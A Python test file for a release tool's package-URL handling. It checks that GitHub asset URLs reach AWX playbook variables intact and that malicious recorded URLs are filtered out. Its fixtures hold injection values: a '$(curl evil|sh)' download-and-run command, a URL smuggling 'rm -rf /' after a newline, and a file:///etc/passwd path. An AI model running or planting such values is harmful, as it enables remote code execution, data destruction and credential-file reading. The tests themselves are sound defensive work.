"""The manifest's per-package ``url``: where a publisher put the file, so a playbook can fetch it.

A release synced to GitHub records each package's asset URL with the publication; a deployment
through AWX then hands that URL to the playbook in ``extra_vars.trainmaster.packages[].url``, and
the URL serves exactly the pinned bytes (``get_url`` with ``checksum: sha256:…`` would accept it).
"""

from __future__ import annotations

import hashlib
import json
import urllib.request
from pathlib import Path

from tests.support.github import environ as github_environ
from trainmaster.ledger import SqliteLedger
from trainmaster.model import Package, Release
from trainmaster.publish import download_urls


def _ok(result):
    assert result.returncode == 0, f"exit {result.returncode}\n{result.stdout}\n{result.stderr}"
    return result


def test_a_release_synced_to_github_hands_awx_the_asset_url(project, github_fake):
    run, work, fake, _ = project
    gh = github_environ(github_fake)
    _ok(run("release", "create", "1.0.0"))
    _ok(run("deploy", "1.0.0", "--to", "dev"))
    before = fake.jobs_of("job")[-1].extra_vars["trainmaster"]["packages"][0]
    assert before["url"] is None  # not published anywhere yet

    _ok(run("sync", "--to", "github", "1.0.0", **gh))
    _ok(run("deploy", "1.0.0", "--to", "test", **gh))
    pkg = fake.jobs_of("job")[-1].extra_vars["trainmaster"]["packages"][0]
    assert pkg["url"].startswith(github_fake.origin + "/") and pkg["url"].endswith("/app.bin")
    with urllib.request.urlopen(pkg["url"], timeout=10) as answer:  # noqa: S310 (loopback fake)
        body = answer.read()
    assert hashlib.sha256(body).hexdigest() == pkg["sha256"] == hashlib.sha256(b"binary-v1").hexdigest()
    shown = json.loads(_ok(run("release", "show", "1.0.0", "--json")).stdout)
    assert shown["publications"]["github"]["remote"]["package_urls"] == {"app": pkg["url"]}


def test_only_http_urls_of_the_release_packages_are_taken_from_recorded_publications(tmp_path: Path):
    ledger = SqliteLedger(tmp_path / "ledger.db")
    pkg = Package("app", "app.bin", 3, "sha256:" + "a" * 64, "application/octet-stream")
    other = Package("web", "web.zip", 3, "sha256:" + "b" * 64, "application/zip")
    rel = Release("demo", "1.0.0", (pkg, other), {"created_by": "me"})
    ledger.insert_release(rel, "me", [
        ("aaa", "created", None, {"package_urls": {"app": "file:///etc/passwd", "web": "$(curl evil|sh)",
                                                   "ghost": "https://x.example/ghost"}}),
        ("bbb", "exists", None, {"package_urls": {"app": "https://feed.example/app.bin\nrm -rf /",
                                                  "web": "https://feed.example/web.zip"}}),
        ("ccc", "deferred", None, {"package_urls": {"app": "https://later.example/app.bin"}}),
        ("github", "created", None, {"package_urls": {"app": "https://github.example/app.bin", "web": 7}}),
    ])
    assert download_urls(ledger, rel) == {"app": "https://github.example/app.bin", "web": "https://feed.example/web.zip"}
    # ``publish:`` order comes first
    assert download_urls(ledger, rel, ["github", "bbb"])["app"] == "https://github.example/app.bin"
